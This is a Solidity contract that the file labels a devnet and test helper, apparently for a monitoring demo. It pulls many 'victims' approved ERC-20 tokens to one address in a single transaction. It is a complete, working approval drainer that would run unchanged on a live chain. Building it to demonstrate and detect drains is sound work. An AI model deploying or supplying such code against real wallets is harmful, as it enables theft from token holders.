// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IDemoApprovalDrainer} from "./IMonitorDemo.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";

/// @title Pulls many victims' approved tokens in one transaction (devnet and test helper)
contract DemoApprovalDrainer is IDemoApprovalDrainer {
    using SafeERC20 for IERC20;

    address public immutable owner;

    constructor(address owner_) {
        owner = owner_;
    }

    /// @inheritdoc IDemoApprovalDrainer
    function drain(address token, address[] calldata owners, address to) external returns (uint256 total) {
        require(msg.sender == owner, NotOwner(msg.sender));
        for (uint256 i = 0; i < owners.length; i++) {
            uint256 amount = Math.min(
                IERC20(token).allowance(owners[i], address(this)), IERC20(token).balanceOf(owners[i])
            );
            if (amount == 0) continue;
            IERC20(token).safeTransferFrom(owners[i], to, amount);
            total += amount;
        }
    }
}
